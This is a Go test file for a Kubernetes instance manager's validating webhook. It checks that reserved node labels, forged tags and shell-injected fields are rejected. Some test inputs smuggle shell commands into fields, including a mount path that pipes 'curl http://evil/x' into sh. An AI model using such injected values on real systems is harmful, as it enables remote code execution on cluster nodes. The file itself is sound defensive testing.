package webhooks

import (
	"strings"
	"testing"

	"github.com/instancemgr/instance-manager/api/v1alpha1"
)

func TestValidateTenantInput(t *testing.T) {
	cases := []struct {
		name   string
		mutate func(*v1alpha1.InstanceGroup)
		want   string // substring of the error; "" = valid
	}{
		{"a plain label", func(ig *v1alpha1.InstanceGroup) { ig.Spec.EKS.Configuration.Labels = map[string]string{"team": "a"} }, ""},
		{"a label of a domain the kubelet may set", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"node.kubernetes.io/exclude-from-external-load-balancers": "true", "kubelet.kubernetes.io/x": "y"}
		}, ""},
		// Labels the kubelet derives (issue 25, N8): a node would pass for
		// another.
		{"another node's hostname", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"kubernetes.io/hostname": "ip-10-0-0-1.ec2.internal"}
		}, "spec.eks.configuration.labels[kubernetes.io/hostname]: Forbidden: the kubelet derives this label"},
		{"a zone", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"topology.kubernetes.io/zone": "us-west-2a"}
		}, "labels[topology.kubernetes.io/zone]: Forbidden: the kubelet derives"},
		{"any topology label", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"topology.kubernetes.io/rack": "r1"}
		}, "labels[topology.kubernetes.io/rack]: Forbidden"},
		{"an instance type", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"node.kubernetes.io/instance-type": "p5.48xlarge"}
		}, "labels[node.kubernetes.io/instance-type]: Forbidden: the kubelet derives"},
		{"os", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"kubernetes.io/os": "windows"}
		}, "labels[kubernetes.io/os]: Forbidden"},
		{"arch, upper case", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"Kubernetes.io/arch": "arm64"}
		}, "Forbidden: the kubelet derives"},
		{"a beta label", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"beta.kubernetes.io/instance-type": "m5.large"}
		}, "labels[beta.kubernetes.io/instance-type]: Forbidden"},
		{"a failure-domain label", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"failure-domain.beta.kubernetes.io/zone": "a"}
		}, "labels[failure-domain.beta.kubernetes.io/zone]: Forbidden"},
		// Other node-pool owners' labels.
		{"an EKS node group", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"eks.amazonaws.com/nodegroup": "system"}
		}, "labels[eks.amazonaws.com/nodegroup]: Forbidden: the eks.amazonaws.com, karpenter.sh, karpenter.k8s.aws domains belong to other node-pool owners"},
		{"a Karpenter node pool", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"karpenter.sh/nodepool": "default"}
		}, "labels[karpenter.sh/nodepool]: Forbidden"},
		{"a Karpenter AWS label", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"karpenter.k8s.aws/instance-family": "m5"}
		}, "labels[karpenter.k8s.aws/instance-family]: Forbidden"},
		{"a node role", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"node-role.kubernetes.io/system": ""}
		}, "labels[node-role.kubernetes.io/system]: Forbidden: the kubernetes.io/ and k8s.io/ prefixes are reserved"},
		{"a control-plane role label", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"node-role.kubernetes.io/control-plane": ""}
		}, "spec.eks.configuration.labels[node-role.kubernetes.io/control-plane]: Forbidden: the kubernetes.io/ and k8s.io/ prefixes are reserved"},
		{"another group's label", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"instancemgr.keikoproj.io/namespace": "payments"}
		}, "labels[instancemgr.keikoproj.io/namespace]: Forbidden: the instancemgr.keikoproj.io/ prefix is reserved"},
		{"a node-restriction label", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Labels = map[string]string{"node-restriction.kubernetes.io/team": "a"}
		}, "Forbidden"},
		{"an ownership tag", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Tags = []map[string]string{{"key": "instancemgr.keikoproj.io/instancegroup", "value": "payments/web"}}
		}, "spec.eks.configuration.tags[0].key: Forbidden: tag keys starting with instancemgr.keikoproj.io/"},
		{"a cluster tag", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Tags = []map[string]string{{"key": "kubernetes.io/cluster/prod", "value": "owned"}}
		}, "tag keys starting with kubernetes.io/cluster/"},
		{"a tag key that forges the managed-tags record", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Tags = []map[string]string{{"key": "team,CostCenter", "value": "a"}}
		}, "spec.eks.configuration.tags[0].key: Forbidden: tag keys may not contain a comma"},
		{"a cluster tag on the instances' launch (tagSpecifications)", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.TagSpecifications = []v1alpha1.TagSpecification{{ResourceType: "instance",
				Tags: []map[string]string{{"key": "kubernetes.io/cluster/prod", "value": "owned"}}}}
		}, "spec.eks.configuration.tagSpecifications[0].tags[0].key: Forbidden: tag keys starting with kubernetes.io/cluster/"},
		{"an AWS tag in tagSpecifications", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.TagSpecifications = []v1alpha1.TagSpecification{{ResourceType: "volume",
				Tags: []map[string]string{{"key": "aws:autoscaling:groupName", "value": "x"}}}}
		}, "spec.eks.configuration.tagSpecifications[0].tags[0].key: Invalid value: \"aws:autoscaling:groupName\": keys starting with aws: are reserved by AWS"},
		{"a resource type launch templates do not tag", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.TagSpecifications = []v1alpha1.TagSpecification{{ResourceType: "snapshot"}}
		}, `spec.eks.configuration.tagSpecifications[0].resourceType: Unsupported value: "snapshot": supported values: "instance", "volume", "network-interface", "spot-instances-request"`},
		{"a resource type twice", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.TagSpecifications = []v1alpha1.TagSpecification{{ResourceType: "instance"}, {ResourceType: "instance"}}
		}, `spec.eks.configuration.tagSpecifications[1].resourceType: Duplicate value: "instance"`},
		{"the original's tagSpecifications", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.TagSpecifications = []v1alpha1.TagSpecification{
				{ResourceType: "instance", Tags: []map[string]string{{"key": "team", "value": "a"}}},
				{ResourceType: "volume", Tags: []map[string]string{{"key": "backup", "value": "daily"}}}}
		}, ""},
		{"shell in bootstrap arguments", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.BootstrapArguments = "--kubelet-extra-args '--v=2' ; id > /tmp/pwned"
		}, "spec.eks.configuration.bootstrapArguments: Invalid value"},
		{"the seed's bootstrap arguments", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.BootstrapArguments = "--kubelet-extra-args=--v=2"
		}, ""},
		{"shell in a mount path", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Volumes = []v1alpha1.NodeVolume{{Name: "/dev/xvdb", MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data; curl http://evil/x | sh #"}}}
		}, "spec.eks.configuration.volumes[0].mountOptions.mount"},
		{"a device that is not one", func(ig *v1alpha1.InstanceGroup) {
			ig.Spec.EKS.Configuration.Volumes = []v1alpha1.NodeVolume{{Name: "xvdb && id"}}
		}, "spec.eks.configuration.volumes[0].name"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ig := validEKS()
			tc.mutate(ig)
			errs, _ := ValidateInstanceGroup(ig)
			got := errs.ToAggregate()
			switch {
			case tc.want == "" && got != nil:
				t.Errorf("unexpected error: %v", got)
			case tc.want != "" && (got == nil || !strings.Contains(got.Error(), tc.want)):
				t.Errorf("error = %v, want one containing %q", got, tc.want)
			}
		})
	}
}

func TestValidateFargateAndManagedTags(t *testing.T) {
	ig := &v1alpha1.InstanceGroup{Spec: v1alpha1.InstanceGroupSpec{Provisioner: v1alpha1.ProvisionerEKSFargate,
		Strategy: v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyManaged},
		EKSFargate: &v1alpha1.EKSFargateSpec{ClusterName: "c", Subnets: []string{"s"}, Selectors: []v1alpha1.EKSFargateSelector{{Namespace: "a"}},
			Tags: map[string]string{"instancemgr.keikoproj.io/instancegroup": "x"}}}}
	errs, _ := ValidateInstanceGroup(ig)
	if got := errs.ToAggregate(); got == nil || !strings.Contains(got.Error(), "spec.eks-fargate.tags[instancemgr.keikoproj.io/instancegroup]") {
		t.Errorf("error = %v", got)
	}
}
